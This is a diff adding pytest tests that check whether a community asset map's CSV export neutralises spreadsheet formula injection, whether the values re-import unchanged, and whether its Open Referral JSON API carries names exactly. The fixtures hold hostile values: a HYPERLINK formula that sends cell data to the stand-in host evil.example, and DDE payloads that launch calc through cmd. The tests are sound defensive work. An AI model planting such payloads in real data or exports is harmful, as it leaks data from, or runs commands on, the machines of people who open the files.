@@ -118,6 +118,52 @@ def test_csv_export_has_no_personal_contact_details(published, client):
     assert "@" not in text and "020 0000" not in text
 
 
+PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(map_page, make_asset):
+    """Names a spreadsheet would run as formulas, from an organisation and an asset."""
+    org = Organisation.objects.create(name=PAYLOAD)
+    asset = make_asset("@SUM(1+1)*cmd|' /C calc'!A0", organisation=org, external_id="t:1",
+                       summary="-2+3+cmd|' /C calc'!A0", address="\t=1+1, Harlesden")
+    Service.objects.create(asset=asset, organisation=org, name="Advice drop-in")
+    return asset
+
+
+def test_csv_export_cannot_run_a_formula_in_an_organisation_or_asset(hostile, client):
+    response = client.get("/api/assets.csv")
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["organisation"] == "'" + PAYLOAD
+    assert row["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["summary"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["address"] == "'\t=1+1, Harlesden"
+    assert row["longitude"] == f"{hostile.longitude:.6f}"  # a negative number stays a number
+    assert row["longitude"].startswith("-")
+
+
+def test_csv_export_reimports_formula_like_names_exactly(hostile, client):
+    from assets_map.importers import import_assets_csv
+
+    report = import_assets_csv(client.get("/api/assets.csv").content)
+    assert (report.created, report.updated, report.errors) == (0, 1, [])
+    asset = Asset.objects.get(pk=hostile.pk)
+    assert asset.name == "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert asset.summary == "-2+3+cmd|' /C calc'!A0"
+    assert asset.organisation.name == PAYLOAD
+
+
+def test_open_referral_json_carries_names_exactly(hostile, client):
+    """Open Referral is JSON for machines, not a spreadsheet: names are carried exactly (a
+    quote would corrupt them for every API client). Whoever turns it into a spreadsheet must
+    neutralise it; the portal's own CSV is /api/assets.csv (docs/data-formats.md)."""
+    response = client.get("/api/openreferral/organizations")
+    assert response["Content-Type"].startswith("application/json")
+    assert "attachment" not in response.get("Content-Disposition", "")
+    assert [o["name"] for o in response.json()["contents"]] == [PAYLOAD]
+
+
 # --- Open Referral UK ---------------------------------------------------------------------------
 
 def oruk_validator(shared_data, name):
